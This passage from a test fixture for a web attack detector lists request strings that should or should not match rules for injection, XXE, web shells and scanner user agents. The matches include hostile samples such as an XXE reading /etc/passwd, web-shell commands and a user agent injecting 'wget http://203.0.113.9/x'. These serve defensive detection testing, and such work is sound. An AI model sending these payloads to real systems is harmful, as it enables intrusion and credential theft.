      '/?x=<%25=7*7%25>',
      '/?x={{7*%277%27}}',
    ],
    passes: ['/{{url}}', '/?x={{item.image}}', '/${id}', '/?q=7*7', '/?x={{0}}'],
  },
  'header-injection': {
    matches: [
      '/%0d%0aSet-Cookie:a=b',
      '/?x=a%0d%0aSet-Cookie:%20a=b',
      '/?x=%E5%98%8A%E5%98%8DSet-Cookie',
      '/?u=x%0d%0aLocation:%20http://203.0.113.9',
    ],
    passes: ['/?text=line%0D%0Aanother', '/?note=a%0Aset', '/a%20b'],
  },
  'xml-entity': {
    matches: [
      '/?x=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+"file:///etc/passwd">]>',
      '/?x=%3C%3Fxml%20version=%221.0%22%3F%3E%3C!DOCTYPE%20x',
    ],
    passes: ['/?q=xml+entity', '/?x=<a/>', '/doctype'],
  },
  'server-side-include': {
    matches: ['/?x=<!--%23exec+cmd="id"-->', '/?x=<esi:include+src=http://203.0.113.9/>'],
    passes: ['/?x=<!--comment-->', '/?q=exec', '/include'],
  },
  'nosql-injection': {
    matches: [
      '/login?username[$ne]=x&password[$ne]=x',
      '/?filter={"$ne":1}',
      "/?q=';return+true;var+a='",
    ],
    passes: ['/items?price[$gt]=10', '/?sort[$date]=1', '/?q=return+policy'],
  },
  'prototype-pollution': {
    matches: ['/?__proto__[x]=1', '/?constructor[prototype][x]=1', '/?a=constructor.prototype.x'],
    passes: ['/docs/prototype', '/?q=constructor', '/proto/'],
  },
  'directory-injection': {
    matches: ['/?user=*)(uid=*', '/?user=*)(objectClass=*', "/?x='+or+count(/*)=1"],
    passes: ['/?q=a)(b', '/?q=count(x)', '/?uid=5'],
  },
  'serialised-object': {
    matches: [
      '/?d=O:8:"stdClass":0:{}',
      '/?d=rO0ABXNyAA',
      '/?d={"@type":"com.sun.rowset.JdbcRowSetImpl"}',
    ],
    passes: ['/?d=o', '/?t=10:30:"x"', '/?d=a:b', '/?d=eyJhbGciOiJIUzI1NiJ9'],
  },
  'foreign-protocol': {
    matches: ['\\x16\\x03\\x01\\x00\\xCA\\x01', '\\x05\\x01\\x00', '\\x03\\x00\\x00/*\\xE0'],
    passes: ['/x16/x03', '/', '/x05'],
  },
  'web-shell': {
    matches: [
      '/c99.php',
      '/wp-content/uploads/2024/x.php',
      '/alfacgiapi/perl.alfa',
      '/.well-known/acme-challenge/x.php',
      '/shell.php',
      '/wp-includes/css/a.php',
      '/uploads/cmd.aspx',
      '/a.php.jpg',
      'agent: antSword/v2.1',
    ],
    passes: [
      '/shell',
      '/mini/',
      '/wp-content/uploads/2024/x.jpg',
      '/.well-known/openid-configuration',
      '/seashell.php',
      '/wp-includes/css/a.css',
    ],
  },
  'web-shell-command': {
    matches: [
      '/x.php?cmd=whoami',
      '/images/a.jsp?cmd=cat+/etc/passwd',
      '/x.php?c=id',
      '/a.aspx?exec=dir',
    ],
    passes: ['/index.php?cmd=view', '/index.php?c=home', '/a.php?act=list', '/x.php?code=idea'],
  },
  'guessed-php': {
    matches: ['/xx.php', '/wp2.php', '/404.php', '/a.php7'],
    passes: ['/index.php', '/contact.php', '/404', '/xx'],
  },
  nikto: {
    matches: ['agent: Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:getinfo)'],
    passes: ['agent: Mozilla/5.0 (X11; Linux x86_64) Niktopus/1.0'],
  },
  sqlmap: {
    matches: ['agent: sqlmap/1.7.2#stable (https://sqlmap.org)'],
    passes: ['agent: mysqlmapper/1.0'],
  },
  'vulnerability-scanner': {
    matches: [
      '/nmaplowercheck1616161',
      'agent: Mozilla/5.0 zgrab/0.x',
      'agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
      'agent: WPScan v3.8.22 (https://wpscan.com)',
      'agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    ],
    passes: [
      'agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
      'agent: curl/8.5.0',
      'agent: python-requests/2.31.0',
      'agent: Googlebot/2.1',
      'agent: Nucleic/1.0',
    ],
  },
  'content-scanner': {
    matches: [
      'agent: gobuster/3.6',
      'agent: DirBuster-1.0-RC1',
      'agent: feroxbuster/2.10.0',
      'agent: Fuzz Faster U Fool v2.1.0-dev',
    ],
    passes: ['agent: Blockbuster/1.0', 'agent: Wget/1.21'],
  },
  'password-guesser': {
    matches: ['agent: Mozilla/4.0 (Hydra)', 'agent: Mozilla/5.0 (Hydra)'],
    passes: ['agent: Hydrant/2.0', 'agent: okhttp/4.9'],
  },
  'botnet-agent': {
    matches: [
      'agent: Hello, world',
      'agent: ZmEu',
      'agent: libredtail-http',
      'agent: Report Runner',
    ],
    passes: ['agent: Mozilla/5.0 Hello/1.0', 'agent: Go-http-client/1.1', 'agent: Moziloid/2'],
  },
  'internet-census': {
    matches: [
      'agent: Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
      'agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
      'agent: Expanse, a Palo Alto Networks company',
    ],
    passes: [
      'agent: Mozilla/5.0 (compatible; bingbot/2.0)',
      'agent: Uptime-Kuma/1.23',
      'agent: curl/7.68.0',
    ],
  },
  'injected-agent': {
    matches: [
      "agent: Mozilla' and sleep(5)--",
      'agent: <script>alert(1)</script>',
      'agent: ;wget http://203.0.113.9/x',
    ],
    passes: [
      'agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X)',
      'agent: Wget/1.21.2',
      "agent: O'Reilly reader",
    ],
  },
  'crowdsec-test': {
    matches: ['/crowdsec-test-NtktlJHV4TfBSK3wvlhiOBnl'],
    passes: ['/crowdsec', '/blog/crowdsec-tests'],
  },
}
